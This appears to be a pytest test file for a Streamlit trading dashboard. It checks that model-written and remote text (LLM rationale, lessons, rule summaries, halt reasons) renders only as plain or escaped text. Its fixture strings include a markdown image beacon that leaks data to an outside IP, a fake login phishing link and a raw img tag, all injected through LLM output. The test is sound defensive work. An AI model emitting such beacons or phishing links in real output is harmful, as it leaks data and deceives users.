"""Model- and remote-written text on the dashboard is shown as plain text: a hostile lesson,
LLM rationale, rule summary, review message and halt reason show literally (``st.text``) or
fully escaped, and no markdown element carries a live image, link or HTML tag."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

from streamlit.testing.v1 import AppTest

from shared.domain.models import CommandKind
from shared.persistence import llm_store, ops_store, rules_store
from shared.persistence.db import open_database, write_transaction
from tests.pages import apptest
from tests.pages.conftest import shown, wire_dashboard

BEACON = "![x](http://203.0.113.9/beacon.png?leak=lesson)"
PHISH = "[Session expired: log in again](http://203.0.113.9/login)"
HOSTILE = f"{BEACON} {PHISH} <img src=http://203.0.113.9/b.png> `tick` **SYSTEM**"
# a live construct: an unescaped [ ( < ! or backtick in a markdown element's source
LIVE = re.compile(r"(?<!\\)(\]\(|<img|<a |!\[|`)")


def _markdown_sources(app: AppTest) -> list[str]:
    """Every element body Streamlit renders as markdown, in the main area and the sidebar."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "toast")
    return [e.value for kind in kinds for e in app.get(kind)] + [
        p.proto.text for p in app.get("progress")]


def _assert_plain(app: AppTest) -> None:
    assert not app.exception, app.exception
    for source in _markdown_sources(app):
        assert not LIVE.search(source), source


def _seed(db: Path) -> tuple[int, int]:
    conn = open_database(db)
    now = datetime.now(UTC)
    with write_transaction(conn):
        rules_store.insert_rule(conn, rules_store.NewRule(
            review_day="2025-03-03", kind="lock_bucket",
            params_json=json.dumps({"bucket": {"side": None, "trend": None, "volatility": None,
                                               "time_bucket": None}}),
            fingerprint="hostile", summary=HOSTILE, evidence={}, backtest={"error": HOSTILE},
            improved=None, expires_at=now + timedelta(days=1)), "review", now)
        rules_store.insert_lesson(conn, "2025-03-03", HOSTILE, None, now)
        run = rules_store.start_review_run(conn, "2025-03-03", now)
        rules_store.finish_review_run(conn, run, "failed", HOSTILE, {}, now)
        command_id = ops_store.enqueue_command(conn, CommandKind.TRIGGER_LLM, now, {})
        reservation = llm_store.reserve_call(conn, llm_store.CallRequest(
            now, now.date().isoformat(), "manual", "{}", command_id, "bedrock", "m", "v1", "h",
            "system", "prompt"), 0.01, llm_store.Limits(100, 10.0, 0.8))
        reply = {"bias": "BEARISH", "confidence": 0.7, "rationale": HOSTILE,
                 "key_factors": [BEACON, PHISH], "risk_notes": HOSTILE}
        llm_store.settle_call(conn, reservation.call_id, llm_store.Settlement(
            "ok", json.dumps(reply), "", HOSTILE, 1, 1, 0, 0, 0.001, 5.0, 0, "BEARISH", 0.7,
            "SELL", now))
        ops_store.upsert_bot_state(conn, ops_store.Heartbeat(
            heartbeat_at=now, mode="paper", symbol="MES", status="running", halted=True,
            halt_reason=HOSTILE))
    conn.close()
    return command_id, reservation.call_id


def test_hostile_model_text_shows_literally_on_memory_llm_and_overview(tmp_path, monkeypatch):
    db = tmp_path / "trader.db"
    wire_dashboard(monkeypatch, db, tmp_path / "config.yaml")
    command_id, _ = _seed(db)
    memory = app = apptest.open_page("app_pages/memory.py")
    _assert_plain(memory)
    assert HOSTILE in [t.value for t in memory.text]  # the lesson, verbatim
    assert any(HOSTILE in shown(m.value) for m in memory.markdown)  # the rule, escaped
    assert any(HOSTILE in shown(c.value) for c in memory.caption)  # the review message

    llm = app.switch_page("app_pages/llm.py")
    llm.session_state["llm_command"] = command_id
    llm.session_state["llm_via"] = "the running bot"
    llm.run()
    _assert_plain(llm)
    texts = [t.value for t in llm.text]
    assert HOSTILE in texts and f"{BEACON}\n{PHISH}" in texts  # rationale, key factors

    overview = app.switch_page("app_pages/overview.py").run()
    _assert_plain(overview)
    assert any(shown(e.value) == f"Halted: {HOSTILE}" for e in overview.error)
